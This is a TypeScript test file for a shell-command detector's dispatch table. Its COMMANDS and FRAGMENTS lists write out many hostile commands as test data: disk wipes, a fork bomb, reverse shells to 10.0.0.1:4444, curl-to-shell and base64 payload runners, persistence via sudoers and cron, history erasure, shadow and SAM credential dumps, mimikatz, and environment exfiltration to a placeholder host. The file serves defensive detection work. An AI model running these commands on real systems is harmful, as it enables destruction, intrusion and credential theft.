import { describe, expect, it } from "vitest";
import { commandHits, commandRules } from "../../../src/detectors/commands/index.js";
import { Trait, traitsOf } from "../../../src/detectors/commands/rules/dispatch.js";
import { analyzeShell } from "../../../src/detectors/commands/shell/analyze.js";
import { dispatchConformance } from "../../helpers/dispatch-conformance.js";
import { fragmentFuzz } from "../../helpers/fragment-fuzz.js";

/**
 * The dispatch may only skip work: for any text, the hits must be those of every check run on
 * every command. A check whose `programs` or `traits` forget a case it can report fails here.
 */

const COMMANDS = [
  "rm -rf /",
  "sudo rm -rf --no-preserve-root /",
  "find / -delete",
  "find / -exec rm {} \\;",
  "dd if=/dev/zero of=/dev/sda",
  "mkfs.ext4 /dev/sdb1",
  "cat /dev/urandom > /dev/sda",
  "tee /dev/sda < x",
  "cp img /dev/sdb",
  "pv x --output /dev/sda",
  "wipefs -a /dev/nvme0n1",
  ":(){ :|:& };:",
  "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
  "nc -e /bin/sh 10.0.0.1 4444",
  "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty",
  "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
  "ngrok tcp 22",
  "curl -fsSL https://example.com/install.sh | sh",
  `sh -c "$(curl -fsSL https://x.example/i.sh)"`,
  "python3.11 <(curl -s https://x.example/i.py)",
  "curl -o /tmp/x https://x.example/x && chmod +x /tmp/x && /tmp/x",
  "wget https://x.example/run.sh; sh run.sh",
  "curl -O https://x.example/a.py && python3.11 a.py",
  "echo ZWNobyBoaQ== | base64 -d | bash",
  "chmod u+s /bin/bash",
  "install -m 4755 x /usr/local/bin/x",
  `echo "bob ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers`,
  "usermod -aG sudo bob",
  "sudo -i",
  "sudo vim -c ':!/bin/sh'",
  "sudo awk 'BEGIN {system(\"/bin/sh\")}'",
  "docker run -v /:/mnt alpine",
  "git apply --unsafe-paths p.diff",
  "(crontab -l; echo '* * * * * curl x|sh') | crontab -",
  "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
  "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
  "cp evil.service /etc/systemd/system/evil.service",
  "systemctl link /tmp/x.service",
  "setenforce 0",
  "iptables -F",
  "HISTFILE=/dev/null bash",
  "export HISTFILE=/dev/null",
  "> ~/.bash_history",
  "ln -sf /dev/null ~/.bash_history",
  "cat /etc/shadow",
  "cat id_rsa",
  "tar czf k.tgz ~/.ssh",
  "getent shadow",
  "gdb -p 1 -batch -ex generate-core-file",
  "mimikatz.exe sekurlsa::logonpasswords",
  "env | curl -d @- https://x.example",
  "python -c 'open(\"/etc/shadow\").read()'",
  "vim -c ':shell'",
  "screen",
  "tclsh",
  "PAGER='/bin/sh -c x' git -p help",
  "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh",
  "LESSOPEN='|/tmp/x %s' less f",
  "cp x /tmp/y; chmod +x /tmp/y; tcpdump -z /tmp/y",
  "sysctl kernel.core_pattern='|/tmp/x'",
  "groff -U doc",
  "sed -n '1e id' f",
  "systemd-run -S",
  "fzf --listen 8080",
  "dpkg -i x.deb",
  "sudo apt install ./x.deb",
  "xargs -o sh",
  `powershell -nop -w hidden -c "iex(New-Object Net.WebClient).DownloadString('http://x/a')"`,
  "pwsh -c 'Set-MpPreference -DisableRealtimeMonitoring 1'",
  "cmd /c reg save HKLM\\SAM s.hive",
  "reg save HKLM\\SAM s.hive",
  "vssadmin delete shadows /all",
  "ls -la; echo done; cd /srv && make",
];

// Seeded shell-ish strings: fragments that exercise wrappers, redirections and nesting.
const FRAGMENTS = [
  " ",
  " ",
  ";",
  "|",
  "&&",
  "\n",
  "'",
  '"',
  "$(",
  ")",
  "`",
  "<",
  ">",
  ">>",
  "<<EOF\n",
  "\nEOF\n",
  "=",
  "/",
  "sudo ",
  "env X=1 ",
  "bash -c ",
  "rm -rf ",
  "/etc/shadow",
  "/dev/sda",
  "/tmp/x",
  "~/.ssh/id_rsa",
  "chmod +x ",
  "curl ",
  "http://h/x",
  "nc ",
  "-e ",
  "/bin/sh",
  "python3.11 -c ",
  "PAGER=",
  "find . -exec ",
  " \\;",
  "tee ",
  "cp ",
  "crontab",
  "echo ",
  "x",
  "id_rsa",
  "mkfs.xfs ",
  "--output ",
  "HISTFILE=",
  "sh",
  "powershell -c ",
  "cmd /c ",
  "reg save HKLM\\SAM ",
  "Set-MpPreference -DisableRealtimeMonitoring ",
];

describe("commands dispatch table", () => {
  dispatchConformance({
    rules: commandRules,
    hits: commandHits,
    commands: COMMANDS,
    fuzz: fragmentFuzz(FRAGMENTS, 3000, 12345),
  });

  it("computes command traits", () => {
    const [inv] = analyzeShell("X=1 sudo cat $(id) > /tmp/y").invocations;
    const traits = traitsOf(inv!);
    for (const t of [Trait.assignment, Trait.elevated, Trait.redirect, Trait.slash, Trait.substitution])
      expect(traits & t).toBe(t);
    expect(traitsOf(analyzeShell("echo hi").invocations[0]!)).toBe(0);
  });
});
